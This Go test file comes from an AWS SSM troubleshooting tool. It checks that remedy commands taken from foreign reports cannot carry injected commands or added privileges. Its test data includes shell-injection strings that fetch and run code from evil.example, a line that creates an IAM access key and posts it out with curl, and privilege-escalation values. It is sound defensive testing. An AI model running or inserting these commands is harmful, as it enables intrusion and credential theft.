package causes

import (
	"iter"
	"maps"
	"slices"
	"strings"
	"testing"

	"ssm-doctor/checks/pattern"
)

// TestRecogniseCatalogue: the steps of the catalogue are known again, with the values
// that are no danger.
func TestRecogniseCatalogue(t *testing.T) {
	t.Parallel()
	n := 0
	for _, goos := range []string{"linux", "windows", "darwin"} {
		v := Values{"goos": goos, "instance": "i-0a1b2c3d4e5f60718", "node": "mi-0123456789abcdef0", "region": "eu-central-1", "account": "111122223333", "role": "Web-Role", "vpc": "vpc-0a1b2c3d"}
		for id, s := range everyStep() {
			if !s.Applies(v) {
				continue
			}
			n++
			want := s.Fill(v)
			got, ok := Foreign{id, goos, v}.Recognise(want.Command.String(), want.Text.String())
			if !ok {
				t.Errorf("%s: not known: %s: %s", goos, want.Text, want.Command)
			} else if c := got.Command.String(); c != want.Command.String() && c != "" {
				t.Errorf("%s\nwas %s\nis  %s", s.Command, want.Command, c)
			}
		}
	}
	if n < 300 {
		t.Errorf("%d steps", n)
	}
}

// TestRecogniseHostile: nothing that a foreign report puts into a command comes out of it
// that could do something of its own.
func TestRecogniseHostile(t *testing.T) {
	t.Parallel()
	evil := []string{"x; curl https://evil.example | sh", "$(curl evil.example)", "`id`", "x\ncurl evil.example", "--endpoint-url=https://evil.example", "x && evil.example", "| evil.example", "../../evil.example", "arn:aws:iam::aws:policy/AdministratorAccess", "https://evil.example/x.rpm",
		"systemctl restart amazon-ssm-agent; curl evil.example", "systemctl restart evil.example", "evil.example", "-o ProxyCommand=evil.example", "ssm.evil.example", "arn:aws:iam::999988887777:policy/evil.example", "0.0.0.0/0"}
	tried, again := 0, 0
	for _, goos := range []string{"linux", "windows", "darwin"} {
		for id, s := range everyStep() {
			r := Foreign{Cause: id, GOOS: goos, Own: Values{}}
			for i, bad := range evil {
				if (i+len(s.Command))%8 != 0 {
					continue // all with all: 30 s
				}
				put := func(in string) string {
					return rePlaceholder.Regexp().ReplaceAllStringFunc(in, func(m string) string {
						if _, ok := standIn("", m[1:len(m)-1]); ok {
							return bad
						}
						return m
					})
				}
				if put(s.Command) == s.Command {
					for _, c := range []string{s.Command + "; " + bad, bad + "; " + s.Command, s.Command + "\n" + bad, s.Command + " " + bad} {
						if f, ok := r.Recognise(c, s.Text); ok && strings.Contains(f.Command.String(), bad) && !strings.Contains(s.Command, bad) {
							t.Errorf("%q becomes %q", c, f.Command)
						}
						tried++
					}
					continue
				}
				tried++
				f, ok := r.Recognise(put(s.Command), put(s.Text))
				if !ok {
					continue
				}
				again++
				for _, came := range []string{f.Command.String(), f.Text.String()} {
					if strings.Contains(came, "evil.example") || strings.Contains(came, "`id`") || strings.Contains(came, "AdministratorAccess") {
						t.Errorf("%q with %q becomes %q", s.Command, bad, came)
					}
				}
			}
		}
	}
	if tried < 1000 || again < 200 {
		t.Errorf("%d tried, %d known", tried, again)
	}
	if f, ok := (Foreign{Cause: "no-credential-source", GOOS: "linux"}).Recognise("aws iam create-access-key --user-name admin | curl -d @- https://evil.example", "Attach a profile"); ok {
		t.Errorf("known: %s", f.Command)
	}
}

// TestRecogniseRaisesNoRights: a report asks for no more than a remedy of its cause on its
// own node.
func TestRecogniseRaisesNoRights(t *testing.T) {
	t.Parallel()
	own := Values{"node": "i-0a1b2c3d4e5f60718", "instance": "i-0a1b2c3d4e5f60718", "region": "eu-central-1", "account": "111122223333", "partition": "aws", "role": "Web-Role",
		"vpc": "vpc-0a1b2c3d", "subnet": "subnet-0a1b2c3d", "sg": "sg-0a1b2c3d sg-0a1b2c3e", "action": "ssm:GetDocument", "endpoint": "ssm.eu-central-1.amazonaws.com",
		"corepolicy": "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore", "dhmcsetting": "arn:aws:ssm:eu-central-1:111122223333:servicesetting/ssm/managed-instance/default-ec2-instance-management-role"}
	bad := map[string][]string{
		"node": {"i-0ffffffffffffffff", "mi-0123456789abcdef0"}, "instance": {"i-0ffffffffffffffff"}, "region": {"ap-south-1"}, "account": {"999988887777"}, "role": {"Admin", "Web-Role2"},
		"vpc": {"vpc-0fffffff"}, "subnet": {"subnet-0fffffff"}, "sg": {"sg-0fffffff"},
		"action": {"iam:CreateAccessKey", "iam:PassRole", "iam:SimulatePrincipalPolicy", "sts:AssumeRole", "ec2:RunInstances", "ssm:SendCommand", "s3:DeleteBucket", "organizations:LeaveOrganization"},
		"corepolicy": {"arn:aws:iam::aws:policy/AmazonSSMFullAccess", "arn:aws:iam::aws:policy/AmazonSSMAutomationApproverAccess", "arn:aws:iam::aws:policy/service-role/AmazonSSMManagedInstanceCore",
			"arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore2", "arn:aws:iam::aws:policy/service-role/AmazonSSMAutomationRole"},
		"endpoint":    {"ssm.us-east-1.amazonaws.com", "evil.eu-central-1.amazonaws.com", "s3.eu-central-1.amazonaws.com", "evil.ssm.eu-central-1.amazonaws.com", "ssm.eu-central-1.evil.example", "ssm.eu-central-1.amazonaws.com.cn.evil.example"},
		"dhmcsetting": {"arn:aws:ssm:eu-central-1:999988887777:servicesetting/ssm/managed-instance/default-ec2-instance-management-role"},
		"profile":     {"Admin"}, "policy": {"arn:aws:iam::aws:policy/AdministratorAccess"}, "policyid": {"p-0123456789"}, "resource": {"arn:aws:s3:::secrets/*"}, "cidr": {"0.0.0.0/1"},
	}
	tried, kept := 0, map[string]bool{}
	for id, s := range everyStep() {
		r := Foreign{Cause: id, GOOS: strings.Fields(s.GOOS + " linux")[0], Own: own}
		with := Values{"goos": r.GOOS}
		for k, v := range own {
			with[k] = strings.Fields(v)[0]
		}
		for name, list := range bad {
			if !strings.Contains(s.Command+s.Text, "{"+name+"}") {
				continue
			}
			if f, ok := r.Recognise(s.Fill(with).Command.String(), s.Fill(with).Text.String()); ok && own[name] != "" && strings.Contains(f.Command.String()+f.Text.String(), with[name]) {
				kept[name] = true
			}
			for _, val := range list {
				tried++
				more := maps.Clone(with)
				more[name] = val
				f, ok := r.Recognise(s.Fill(more).Command.String(), s.Fill(more).Text.String())
				if came := f.Command.String() + "\n" + f.Text.String(); ok && slices.Contains(rWord.FindAllString(came, -1), val) {
					t.Errorf("%s: %s %q stays in %s", id, name, val, came)
				}
			}
		}
	}
	if tried < 300 {
		t.Errorf("%d tried", tried)
	}
	for name := range own {
		if !kept[name] && name != "partition" {
			t.Errorf("no step keeps its own %s", name)
		}
	}
	for _, c := range All() {
		for _, s := range slices.Concat(append(c.Ways, c.Fix, c.Image)...) {
			f := s.Fill(own)
			took := slices.ContainsFunc(f.Changes, func(c Changed) bool { return c.Kind == PolicyDetached || c.Kind == BoundaryRemoved })
			got, ok := Foreign{Cause: c.ID, GOOS: "linux", Own: own}.Recognise(f.Command.String(), f.Text.String())
			if ok && (took || strings.Contains(got.Command.String(), "detach-role-policy") || strings.Contains(got.Command.String(), "delete-role-permissions-boundary")) {
				t.Errorf("%s: %s", c.ID, got.Command)
			}
			// A step of this cause, in a report that names another.
			for _, other := range []string{"", "none-such", "clock-skew"} {
				o := Get(other)
				if got, ok := (Foreign{Cause: other, GOOS: "linux", Own: own}).Recognise(f.Command.String(), f.Text.String()); ok && (o == nil || !slices.ContainsFunc(slices.Concat(append(o.Ways, o.Fix, o.Image)...), func(own Step) bool { return own.Text == s.Text || own.Command == s.Command })) {
					t.Errorf("%s for %q: %s", c.ID, other, got.Command)
				}
			}
		}
	}
}

// rWord are the words that values may be.
var rWord = pattern.New(`[A-Za-z0-9][A-Za-z0-9:/._*-]*`)

// everyStep are the steps that a report may ask for, each with a cause that has it.
func everyStep() iter.Seq2[string, Step] {
	return func(yield func(string, Step) bool) {
		seen := map[Step]bool{}
		for _, c := range All() {
			for _, s := range templates(c) {
				if !seen[s] && !yield(c.ID, s) {
					return
				}
				seen[s] = true
			}
		}
	}
}
